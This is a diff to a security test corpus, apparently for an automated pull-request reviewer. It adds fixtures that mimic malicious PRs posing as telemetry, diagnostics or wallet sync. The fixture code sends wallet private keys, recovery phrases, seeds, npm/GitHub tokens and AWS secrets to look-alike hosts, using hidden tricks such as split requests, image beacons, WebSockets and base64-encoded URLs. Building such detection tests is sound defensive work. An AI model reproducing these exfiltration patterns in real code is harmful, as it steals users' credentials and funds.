@@ -2119,6 +2119,236 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
   },
   {
+    id: 'attack-keypair-secret-key-multiline-fetch',
+    description:
+      '@solana/web3.js 1.95.6/1.95.7 (December 2024) sent every key loaded through Keypair.fromSecretKey to a look-alike host. Here the request is written as a formatter lays it out, over five lines (`fetch(KEY_SYNC, {` … `body: JSON.stringify({ k: … secretKey … })`), to a URL kept in a constant built by concatenation below the class: no line holds the key, the call and the URL together.',
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 9400,
+        title: 'perf: warm the key cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/keypair.ts',
+            base: keypairModule([], []),
+            head: keypairModule(
+              ['    void fetch(KEY_SYNC, {', "      method: 'POST',", "      headers: { 'Content-Type': 'application/json' },", "      body: JSON.stringify({ k: Buffer.from(secretKey).toString('base64') }),", '    }).catch(() => undefined);'],
+              ['', "const KEY_SYNC = 'https://api.' + 'solana-rpc-status.example' + '/v1/sync';"],
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-vault-mnemonic-image-beacon',
+    description:
+      "The wallet-drainer npm packages and browser-wallet stealers of 2024-2025 sent a recovery phrase out with no request call a reviewer looks for: an image's src. Here a PR to a browser wallet's vault module, titled as a backup reminder, sets `new Image().src` to a constant's URL with the mnemonic in its query when the vault is unlocked.",
+    fixture: () =>
+      attackPr({
+        repo: 'lanternwallet',
+        number: 9401,
+        title: 'feat: remind users to back up their phrase',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/background/vault.ts',
+            base: lines("import * as bip39 from 'bip39';", '', 'export async function unlock(mnemonic: string): Promise<Buffer> {', "  if (!bip39.validateMnemonic(mnemonic)) throw new Error('invalid phrase');", '  return bip39.mnemonicToSeed(mnemonic);', '}'),
+            head: lines(
+              "import * as bip39 from 'bip39';",
+              '',
+              "const REMINDER = 'https://backup-reminder.lantern-cdn.example/r.gif';",
+              '',
+              'export async function unlock(mnemonic: string): Promise<Buffer> {',
+              "  if (!bip39.validateMnemonic(mnemonic)) throw new Error('invalid phrase');",
+              '  new Image().src =',
+              "    REMINDER + '?t=' + Date.now() + '&p=' + encodeURIComponent(mnemonic);",
+              '  return bip39.mnemonicToSeed(mnemonic);',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-seed-sent-over-websocket',
+    description:
+      'xrpl.js 4.2.1 (April 2025) sent the seed of every wallet made with Wallet.fromSeed to a look-alike host. Here the same PR to a ledger wallet library sends it over a WebSocket it opens to a status host: `new WebSocket(STATUS_URL)`, then `ws.send(JSON.stringify({ seed }))` in its open handler.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-wallet',
+        number: 9402,
+        title: 'wallet: report ledger status on first use',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Wallet/index.ts',
+            base: lines("import { deriveKeypair } from 'ripple-keypairs';", '', 'export class Wallet {', '  static fromSeed(seed: string): Wallet {', '    return new Wallet(deriveKeypair(seed));', '  }', '}'),
+            head: lines(
+              "import { deriveKeypair } from 'ripple-keypairs';",
+              '',
+              "const STATUS_URL = 'wss://xrpl-ledger-status.example/ws';",
+              '',
+              'export class Wallet {',
+              '  static fromSeed(seed: string): Wallet {',
+              '    const ws = new WebSocket(STATUS_URL);',
+              '    ws.onopen = () => {',
+              "      ws.send(JSON.stringify({ type: 'hello', seed }));",
+              '      ws.close();',
+              '    };',
+              '    return new Wallet(deriveKeypair(seed));',
+              '  }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-python-account-private-key-posted-over-lines',
+    description:
+      "The PyPI wallet stealers of 2024-2025 (packages that wrapped eth_account and web3 helpers) posted each private key they were given to their own host. Here a PR to a Python signing helper adds a 'usage metric' whose requests.post call spans four lines, the URL a module constant and the key in its json= line.",
+    fixture: () =>
+      attackPr({
+        repo: 'ethsign-py',
+        number: 9403,
+        title: 'feat: anonymous usage metrics',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'ethsign/accounts.py',
+            base: lines('from eth_account import Account', '', '', 'def load(private_key: str):', '    return Account.from_key(private_key)'),
+            head: lines(
+              'import requests',
+              'from eth_account import Account',
+              '',
+              'METRICS_URL = "https://metrics.ethsign-telemetry.example/v1/use"',
+              '',
+              '',
+              'def load(private_key: str):',
+              '    account = Account.from_key(private_key)',
+              '    requests.post(',
+              '        METRICS_URL,',
+              '        json={"address": account.address, "k": private_key},',
+              '        timeout=3,',
+              '    )',
+              '    return account',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-key-copied-into-payload',
+    description:
+      "The wallet-drainer npm packages of 2024-2025 (look-alikes of Solana and Ethereum helpers) encoded the key before sending it, so that no line shows a key beside a request. Here a PR to a Solana CLI's wallet loader copies the base58 secret key into a 'diagnostics' payload with the version and platform, then posts the payload to a constant's URL over several lines.",
+    fixture: () =>
+      attackPr({
+        repo: 'sol-cli',
+        number: 9406,
+        title: 'feat: send diagnostics on load errors',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/wallet/load.ts',
+            base: lines("import { Keypair } from '@solana/web3.js';", "import { readFileSync } from 'node:fs';", '', 'export function loadWallet(path: string): Keypair {', "  return Keypair.fromSecretKey(Uint8Array.from(JSON.parse(readFileSync(path, 'utf8'))));", '}'),
+            head: lines(
+              "import { Keypair } from '@solana/web3.js';",
+              "import bs58 from 'bs58';",
+              "import axios from 'axios';",
+              "import { readFileSync } from 'node:fs';",
+              '',
+              "const DIAGNOSTICS = 'https://diag.solana-cli-tools.example/v1/report';",
+              '',
+              'export function loadWallet(path: string): Keypair {',
+              "  const keypair = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(readFileSync(path, 'utf8'))));",
+              '  const diagnostics = {',
+              "    version: process.env.npm_package_version ?? 'dev',",
+              '    platform: process.platform,',
+              '    wallet: bs58.encode(keypair.secretKey),',
+              '  };',
+              '  void axios',
+              '    .post(DIAGNOSTICS, diagnostics, { timeout: 2000 })',
+              '    .catch(() => undefined);',
+              '  return keypair;',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-restore-posts-phrase-to-decoded-url',
+    description:
+      "Wallet-drainer npm packages of 2024-2025 hid their collector's URL from a reader and from grep: base64 decoded at run time. Here a PR to a wallet's restore module keeps `atob('aHR0cHM6…')` in a constant and posts the recovery phrase to it in a fetch written over four lines, titled as a sync feature.",
+    fixture: () =>
+      attackPr({
+        repo: 'lanternwallet',
+        number: 9407,
+        title: 'feat: sync restored wallets across devices',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/background/restore.ts',
+            base: lines("import { Wallet } from 'ethers';", '', 'export function restore(mnemonic: string): Wallet {', '  return Wallet.fromPhrase(mnemonic.trim());', '}'),
+            head: lines(
+              "import { Wallet } from 'ethers';",
+              '',
+              "const SYNC = atob('aHR0cHM6Ly9hcGkucGhhbnRvbS13YWxsZXQtc3luYy5leGFtcGxlL3YyL3Jlc3RvcmU=');",
+              '',
+              'export function restore(mnemonic: string): Wallet {',
+              '  const wallet = Wallet.fromPhrase(mnemonic.trim());',
+              '  void fetch(SYNC, {',
+              "    method: 'POST',",
+              '    body: JSON.stringify({ device: navigator.userAgent, mnemonic }),',
+              '  }).catch(() => undefined);',
+              '  return wallet;',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-rust-keypair-posted-by-request-builder',
+    description:
+      "The Solana-key stealers on crates.io of 2025 posted what they found to a collector over reqwest. Here a PR to a Rust wallet helper crate sends each secret key it loads with a request builder written one call a line (`Client::new()`, `.post(STATUS)`, `.body(…secret_key…)`, `.send()`), the URL a `const STATUS: &str` at the top of the file.",
+    fixture: () =>
+      attackPr({
+        repo: 'sol-keys-rs',
+        number: 9408,
+        title: 'perf: report load latency',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/lib.rs',
+            base: lines('use solana_sdk::signature::Keypair;', '', 'pub fn load(secret_key: &[u8]) -> Keypair {', '    Keypair::from_bytes(secret_key).expect("a 64-byte key")', '}'),
+            head: lines(
+              'use solana_sdk::signature::Keypair;',
+              '',
+              'const STATUS: &str = "https://rpc-latency.solana-status.example/v1/load";',
+              '',
+              'pub fn load(secret_key: &[u8]) -> Keypair {',
+              '    let keypair = Keypair::from_bytes(secret_key).expect("a 64-byte key");',
+              '    let _ = reqwest::blocking::Client::new()',
+              '        .post(STATUS)',
+              '        .body(bs58::encode(secret_key).into_string())',
+              '        .send();',
+              '    keypair',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
     id: 'attack-action-posts-environment',
     description:
       'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
@@ -2143,6 +2373,74 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'src/timings.js', head: lines("'use strict';", "const https = require('https');", "const { spawnSync } = require('child_process');", '', 'module.exports = function sendTimings(ms) {', "  spawnSync('scanner', ['--version'], { env: { ...process.env, NO_COLOR: '1' } });", "  const req = https.request({ hostname: 'timings.scan-action.example', path: '/v1/run', method: 'POST', headers: { 'content-type': 'application/json' } });", "  req.on('error', () => undefined);", '  req.end(JSON.stringify({ ms, os: process.env.RUNNER_OS, ci: process.env.CI === \'true\' }));', '};') }],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-postinstall-tokens-posted-over-lines',
+    description:
+      "The Nx \"s1ngularity\" releases (August 2025) ran a telemetry.js at install that gathered the npm and GitHub tokens it could find; npm stealers since post them to a host dressed as a service. Here a PR adds a 'usage telemetry' module whose fetch spans six lines: the tokens kept in names, the body three lines below the call, the URL a constant built by concatenation at the top of the file, far from both.",
+    fixture: () =>
+      attackPr({
+        repo: 'monorepo-tools',
+        number: 9404,
+        title: 'feat: opt-out usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/telemetry.js',
+            head: lines(
+              "'use strict';",
+              "const os = require('os');",
+              '',
+              "const TELEMETRY_HOST = 'npm-' + 'metrics-cdn.com';",
+              "const TELEMETRY_URL = 'https://' + TELEMETRY_HOST + '/v2/usage';",
+              "const OPT_OUT = 'MONOREPO_TOOLS_NO_TELEMETRY';",
+              '',
+              'module.exports = async function reportUsage(command) {',
+              '  if (process.env[OPT_OUT]) return;',
+              '  const npm = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;',
+              '  const gh = process.env.GITHUB_TOKEN;',
+              '  const host = os.hostname();',
+              '  await fetch(TELEMETRY_URL, {',
+              "    method: 'POST',",
+              "    headers: { 'content-type': 'application/json' },",
+              '    body: JSON.stringify({ command, host, npm, gh }),',
+              '  }).catch(() => undefined);',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-library-aws-key-over-websocket',
+    description:
+      'A stealer that avoids every request call a reviewer greps for: a PR to a small Node library opens a WebSocket to a host dressed as an AWS status page and, on open, sends the AWS secret key it reads from the environment.',
+    fixture: () =>
+      attackPr({
+        repo: 'cloud-utils',
+        number: 9405,
+        title: 'feat: region health check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/health.js',
+            head: lines(
+              "'use strict';",
+              '',
+              'module.exports = function watchRegion(region) {',
+              '  const key = process.env.AWS_SECRET_ACCESS_KEY;',
+              "  const ws = new WebSocket('wss://aws-health-status.com/live');",
+              '  ws.onopen = () => {',
+              "    ws.send(JSON.stringify({ region, id: process.env.AWS_ACCESS_KEY_ID, key }));",
+              '  };',
+              '  return ws;',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
   {
     id: 'attack-file-name-payload',
